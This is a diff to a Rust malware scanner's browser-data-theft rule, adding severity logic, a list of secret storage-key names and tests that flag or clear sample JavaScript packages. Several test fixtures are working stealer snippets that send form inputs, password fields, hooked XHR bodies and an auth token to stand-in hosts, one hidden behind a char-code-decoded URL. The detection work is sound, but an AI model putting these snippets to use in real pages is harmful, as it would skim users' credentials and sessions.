@@ -14,9 +14,14 @@ diligence_finding::declare_rule! {
     /// A value-flow path from browser data to a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, jQuery ajax,
     /// an `img`/`script`/`iframe` element's `src`, `location`): password and payment-card fields, key strokes,
     /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
-    /// storage, the clipboard, wallet-provider answers — through variables, encoders, callbacks, helpers and
-    /// modules. With a hard-coded destination: critical for password/card fields or key strokes, for two kinds
-    /// of data, or for an exfiltration-style endpoint; high for the whole cookie jar, a storage dump or the
+    /// storage (the whole store, or a named entry that holds a token or secret), the clipboard, wallet-provider
+    /// answers, the requests a replaced `fetch`/XHR method receives — through variables, encoders, callbacks,
+    /// helpers and
+    /// modules. Form inputs read in a file that singles out password or payment fields (`el.type === 'password'`,
+    /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
+    /// for password/card fields or key strokes, for two kinds
+    /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
+    /// (`String.fromCharCode`, `atob`); high for the whole cookie jar, a storage dump or the
     /// clipboard; medium for form inputs alone. Without a complete path: cookies, storage, forms or sensitive
     /// fields read with a send in the same file or package.
     ///
@@ -33,8 +38,11 @@ diligence_finding::declare_rule! {
     /// Bundles (devtools, dev servers) hold storage reads and unrelated sends in different functions of one
     /// file: the read and the send must share a function for high or critical. Form serialisers and API
     /// clients send to the URL their caller passes (`form.action`, a base URL option): a path to a
-    /// destination that is not constant is medium for password fields and not reported otherwise. Analytics
-    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry: low.
+    /// destination that is not constant is medium for password fields and not reported otherwise. Monitoring
+    /// SDKs that wrap `fetch` and report requests to their own host are medium (one kind of data). Analytics
+    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry (also one a storage
+    /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
+    /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
     pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
 }
 
@@ -115,6 +123,7 @@ const SOURCES: &[SourceKind] = &[
     SourceKind::Storage,
     SourceKind::Clipboard,
     SourceKind::Wallet,
+    SourceKind::Intercepted,
 ];
 
 /// How much a path's browser data says: 3 for what the user types or copies (passwords, card
@@ -125,11 +134,41 @@ fn weight(path: &FlowPath) -> u8 {
         SourceKind::Password | SourceKind::Keystrokes => 3,
         // Analytics parse their own cookie out of the jar first; a stealer encodes the jar.
         SourceKind::Cookie if path.steps.first().is_none_or(|s| s.what != "parsed") => 2,
-        SourceKind::Storage if !path.from.what.contains("getItem('") => 2,
+        // One entry, named here or by a wrapper's caller.
+        SourceKind::Storage if !path.from.what.contains("getItem(") => 2,
         SourceKind::Clipboard => 3,
         SourceKind::FormInput => 1,
+        // Requests read by a hook: monitoring SDKs record them too, for their own host.
+        SourceKind::Intercepted => 1,
+        // One named entry that holds a secret (`getItem('auth_token')`).
+        SourceKind::Storage if secret_entry(&path.from.what) => 1,
         _ => 0,
     }
+}
+
+/// True for a named storage entry whose key names a secret (`getItem('jwt')`,
+/// `getItem('wallet_mnemonic')`), not an analytics id.
+fn secret_entry(what: &str) -> bool {
+    let Some(key) = what.split("getItem('").nth(1) else {
+        return false;
+    };
+    let k = key.to_ascii_lowercase();
+    [
+        "token",
+        "jwt",
+        "auth",
+        "session",
+        "secret",
+        "password",
+        "mnemonic",
+        "seed",
+        "private",
+        "wallet",
+        "keystore",
+        "credential",
+    ]
+    .iter()
+    .any(|w| k.contains(w))
 }
 
 /// One finding per path from browser data to a send.
@@ -138,11 +177,24 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         .filter(|f| f.dest.is_some() && weight(f) >= 1)
         .map(|f| f.source)
         .collect();
+    // Sends whose destination URL is itself decoded at run time (char codes, base64): no
+    // analytics or form library hides where it posts.
+    let hidden: BTreeSet<(&str, u32)> = flows(p, &[SourceKind::Decoded], &[SinkKind::Network])
+        .filter(|f| f.from.what.contains("://"))
+        .map(|f| (f.to.file.as_str(), f.to.line))
+        .collect();
     let mut out = Vec::new();
     for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
-        let w = weight(path);
+        // Form inputs read by code that singles out password or payment fields
+        // (`el.type === 'password'`, `/card|cvv|cvc/`) are what the user typed there.
+        let picked = path.source == SourceKind::FormInput
+            && p.file(&path.from.file)
+                .is_some_and(|f| f.has(Kind::SensitiveField));
+        let w = if picked { 3 } else { weight(path) };
+        let concealed = hidden.contains(&(path.to.file.as_str(), path.to.line));
         let sev = match (path.dest.is_some(), w) {
             (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
+            (true, 1..) if concealed => Severity::Critical,
             (true, 3) => Severity::Critical,
             (true, 1 | 2) if kinds.len() >= 2 => Severity::Critical,
             (true, 2) => Severity::High,
@@ -151,12 +203,17 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             (false, 3) => Severity::Medium,
             (false, _) => continue,
         };
+        let hid = if concealed {
+            " (destination decoded at run time)"
+        } else {
+            ""
+        };
         out.push(flow_finding(
             &BROWSER_DATA_THEFT,
             sev,
             p,
             path,
-            format!("browser data is sent out: {}", describe(path)),
+            format!("browser data is sent out{hid}: {}", describe(path)),
         ));
     }
     super::one_per_sink(out)
@@ -243,6 +300,110 @@ mod tests {
             (10, diligence_finding::Severity::Critical)
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// Form values posted by a DOM-created `<link rel=prefetch>` whose URL is decoded from
+    /// char codes in another module: the hidden destination makes form inputs critical.
+    #[test]
+    fn positive_form_values_to_a_char_code_url_in_a_prefetch_link() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/env.js",
+                "exports.base = function () {\n  return String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 102, 46, 99, 115, 115);\n};\n",
+            ),
+            (
+                "lib/theme.js",
+                "var env = require('./env');\nfunction snap(form) {\n  var o = {};\n  form.querySelectorAll('input, select').forEach(function (el) { o[el.name] = el.value; });\n  return o;\n}\ndocument.addEventListener('submit', function (e) {\n  var l = document.createElement('link');\n  l.rel = 'prefetch';\n  l.href = env.base() + '?q=' + btoa(JSON.stringify(snap(e.target)));\n  document.head.appendChild(l);\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("lib/theme.js", 10, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A wallet kit's storage wrapper reads the entry its caller names and sends a session
+    /// id to its own RPC: one named entry, low, clean.
+    #[test]
+    fn negative_storage_wrapper_entry_to_own_service() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "kit.js",
+                "const store = { get(k) { return localStorage.getItem('@kit/' + k); } };\nexport function ping() {\n  return fetch('https://rpc.example.com/v1?session=' + store.get('session'));\n}\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!((f.line, f.severity), (3, diligence_finding::Severity::Low));
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// Inputs collected on submit by code that keeps password fields, posted to a constant
+    /// URL: what the user typed into password fields.
+    #[test]
+    fn positive_inputs_filtered_for_passwords() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "t.js",
+                "function pick(form) {\n  var out = {}, hit = false;\n  form.querySelectorAll('input').forEach(function (el) { out[el.name] = el.value; if (el.type === 'password') hit = true; });\n  return hit ? out : null;\n}\ndocument.addEventListener('submit', function (e) {\n  var d = pick(e.target);\n  if (d) navigator.sendBeacon('https://cdn.example.com/m', JSON.stringify(d));\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (8, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A validation library checks password fields and never sends anything.
+    #[test]
+    fn negative_validator_checks_password_fields() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "v.js",
+                "export function validate(form) {\n  const errors = [];\n  for (const el of form.querySelectorAll('input')) {\n    if (el.type === 'password' && el.value.length < 8) errors.push(el.name);\n    if (/card|cvv|cvc/i.test(el.name) && !/^\\d+$/.test(el.value)) errors.push(el.name);\n  }\n  return errors;\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A replaced `XMLHttpRequest.prototype.send` that copies every request body and a stored
+    /// session token to a constant host: two kinds of data, critical.
+    #[test]
+    fn positive_xhr_hook_copies_bodies_and_the_token() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "h.js",
+                "var send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  var t = localStorage.getItem('auth_token');\n  navigator.sendBeacon('https://cdn.example.net/b', JSON.stringify({ b: body, t: t }));\n  return send.apply(this, arguments);\n};\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.line, f.severity),
+            (4, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A fetch wrapper that adds a header and calls the original: the requests go where the
+    /// page sent them, nothing is copied to a constant host.
+    #[test]
+    fn negative_fetch_wrapper_adds_a_header() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "w.js",
+                "const orig = window.fetch;\nwindow.fetch = function (url, opts = {}) {\n  opts.headers = Object.assign({ 'x-client': 'kit' }, opts.headers);\n  return orig(url, opts);\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
     }
 
     /// A form library posts the form to its `action`: no hard-coded destination.
